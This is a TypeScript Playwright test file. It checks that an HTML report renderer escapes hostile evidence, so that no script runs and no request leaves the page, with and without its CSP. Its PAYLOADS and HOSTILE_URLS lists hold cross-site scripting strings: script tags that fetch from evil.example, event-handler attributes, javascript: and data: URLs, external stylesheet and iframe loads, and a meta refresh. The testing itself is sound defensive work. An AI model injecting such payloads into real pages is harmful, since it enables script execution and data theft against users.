// The HTML report is opened anywhere (a mail attachment, a ticket): rendered from hostile evidence and
// loaded in real Chromium, no script may run and no request may leave the document, and the hostile
// text must come out as text. Checked twice: as written (with its CSP), and with the CSP meta tag cut
// out, so the escaping is shown to hold on its own.
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderHtmlReport } from '../../main/report/html-report.js';
import { buildReport, type Report } from '../../shared/report-model.js';
import { l10n, verbatim } from '../../shared/text.js';
import { sampleApplied, sampleRun, TOOL } from '../unit/report/report-fixture.js';
import { launchBrowser } from './browser.js';

const DOC_URL = 'http://report.invalid/report.html';
const BIG = `${'A'.repeat(1_000_000)}<script>window.__pwned = 'big'</script>`;

/** Each payload tries to run script, load something from outside, or break out of its context. */
const PAYLOADS = [
  `<script>window.__pwned = 'script'; fetch('http://evil.example/s')</script>`,
  `<img src="http://evil.example/i.png" onerror="window.__pwned = 'onerror'">`,
  `<svg onload="window.__pwned = 'svg'"><animate onbegin="window.__pwned = 'animate'"/></svg>`,
  `"><a href="javascript:window.__pwned='href'" id="jslink">click</a>`,
  `' onmouseover='window.__pwned = "attr"' x='`,
  `</style><style>@import url(http://evil.example/c.css); body { background: url(http://evil.example/b.png) }</style>`,
  `</title></head><body><iframe src="http://evil.example/frame"></iframe>`,
  `<link rel="stylesheet" href="http://evil.example/l.css"><base href="http://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">`,
  `<object data="http://evil.example/o.swf"></object><embed src="http://evil.example/e">`,
  `<form action="http://evil.example/f"><button formaction="javascript:window.__pwned='form'">x</button></form>`,
  `<!-- --><script>window.__pwned = 'comment'</script>`,
  `]]><![CDATA[<script>window.__pwned = 'cdata'</script>`,
  `control: bell\u0007 esc\u001b[31m nul\u0000 rlo\u202Eevil del\u007f`,
  `日本語の証拠: <script>window.__pwned = '日本'</script> レジストリ値「WUServer」`,
];
const HOSTILE_URLS = ['javascript:window.__pwned="doc"', 'http://evil.example/doc', 'data:text/html,<script>window.__pwned=1</script>', 'https://learn.microsoft.com.evil.example/'];

/** The sample run with every payload in the places evidence and text reach the report. */
function hostileReport(lang: 'en' | 'ja'): Report {
  const run = sampleRun();
  const [first, second] = run.results;
  if (!first || !second) throw new Error('the sample run has fewer than two checks');
  first.evidence = [...PAYLOADS.map((p, i) => ({ label: verbatim(`payload ${i} ${p}`), value: p })), { label: l10n('Big value', '大きな値'), value: BIG }];
  first.summary = l10n(PAYLOADS[0]!, PAYLOADS[14]!);
  first.title = l10n(`Title ${PAYLOADS[3]!}`, `題 ${PAYLOADS[3]!}`);
  first.docs = [...HOSTILE_URLS, ...first.docs];
  second.explanation = l10n(PAYLOADS[5]!, PAYLOADS[5]!);
  const report = buildReport({ run, fixesApplied: sampleApplied(), lang, tool: TOOL });
  report.target.computerName = PAYLOADS[6]!;
  return report;
}

interface Loaded {
  requests: string[];
  dialogs: string[];
  console: string[];
  pwned: unknown;
  dom: {
    scripts: number;
    handlerAttributes: string[];
    scriptUrls: string[];
    embedded: number;
    metaRefresh: number;
    bases: number;
    stylesheets: number;
    text: string;
    hrefs: string[];
  };
}

async function load(page: Page, html: string): Promise<Loaded> {
  const requests: string[] = [];
  const dialogs: string[] = [];
  const consoleLines: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('console', (m) => consoleLines.push(m.text()));
  await page.route('**/*', async (route) => {
    const url = route.request().url();
    requests.push(url);
    if (url === DOC_URL) await route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: html });
    else await route.abort();
  });
  await page.goto(DOC_URL, { waitUntil: 'load' });
  // Give anything deferred (timers, animations, lazy loads) a moment to try.
  await page.hover('body').catch(() => undefined);
  await page.waitForTimeout(300);
  // Runs in the page; written as source text because this file is type-checked without DOM types.
  const pwned = await page.evaluate('window.__pwned');
  const dom = (await page.evaluate(`(() => {
    const all = [...document.querySelectorAll('*')];
    const attrs = (el) => [...el.attributes];
    return {
      scripts: document.scripts.length,
      handlerAttributes: all.flatMap((el) => attrs(el).filter((a) => a.name.toLowerCase().startsWith('on')).map((a) => el.tagName + '@' + a.name)),
      scriptUrls: all.flatMap((el) => attrs(el).filter((a) => /^\\s*(javascript|data|vbscript):/i.test(a.value) && /^(href|src|action|formaction|data)$/i.test(a.name)).map((a) => el.tagName + '@' + a.name)),
      embedded: document.querySelectorAll('iframe, frame, object, embed, svg, img, form').length,
      metaRefresh: document.querySelectorAll('meta[http-equiv="refresh" i]').length,
      bases: document.querySelectorAll('base').length,
      stylesheets: document.querySelectorAll('link').length,
      text: document.body.textContent ?? '',
      hrefs: [...document.querySelectorAll('a[href]')].map((a) => a.getAttribute('href') ?? ''),
    };
  })()`)) as Loaded['dom'];
  return { requests, dialogs, console: consoleLines, pwned, dom };
}

let browser: Browser;

beforeAll(async () => {
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
});

describe.each(['en', 'ja'] as const)('HTML report from hostile evidence (%s)', (lang) => {
  const html = renderHtmlReport(hostileReport(lang));
  const withoutCsp = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');

  it('is rendered whole, with its CSP', () => {
    expect(html.length).toBeGreaterThan(1_000_000);
    expect(withoutCsp).not.toBe(html);
    expect(withoutCsp).not.toContain('Content-Security-Policy');
  });

  it.each([
    ['as written', html],
    ['with the CSP removed', withoutCsp],
  ])('%s: no script runs, nothing is requested, the payloads are text', async (_mode, source) => {
    const page = await browser.newPage();
    try {
      const loaded = await load(page, source);
      expect(loaded.pwned).toBeUndefined();
      expect(loaded.dialogs).toEqual([]);
      expect(loaded.requests).toEqual([DOC_URL]);
      expect(loaded.dom.scripts).toBe(0);
      expect(loaded.dom.handlerAttributes).toEqual([]);
      expect(loaded.dom.scriptUrls).toEqual([]);
      expect(loaded.dom.embedded).toBe(0);
      expect(loaded.dom.metaRefresh).toBe(0);
      expect(loaded.dom.bases).toBe(0);
      expect(loaded.dom.stylesheets).toBe(0);
      // The hostile text, as text (control characters shown as U+FFFD).
      const text = loaded.dom.text;
      for (const p of PAYLOADS.slice(0, 13)) expect(text).toContain(p);
      expect(text).toContain('control: bell\uFFFD esc\uFFFD[31m nul\uFFFD rlo\uFFFDevil del\uFFFD');
      expect(text).toContain(PAYLOADS[14]);
      expect(text).toContain(BIG);
      for (const url of HOSTILE_URLS) expect(text).toContain(url);
      // No hostile URL became a link.
      expect(loaded.dom.hrefs.length).toBeGreaterThan(0);
      for (const href of loaded.dom.hrefs) expect(href.startsWith('#') || /^https:\/\/(learn|support)\.microsoft\.com\//.test(href), href).toBe(true);
    } finally {
      await page.close();
    }
  });
});
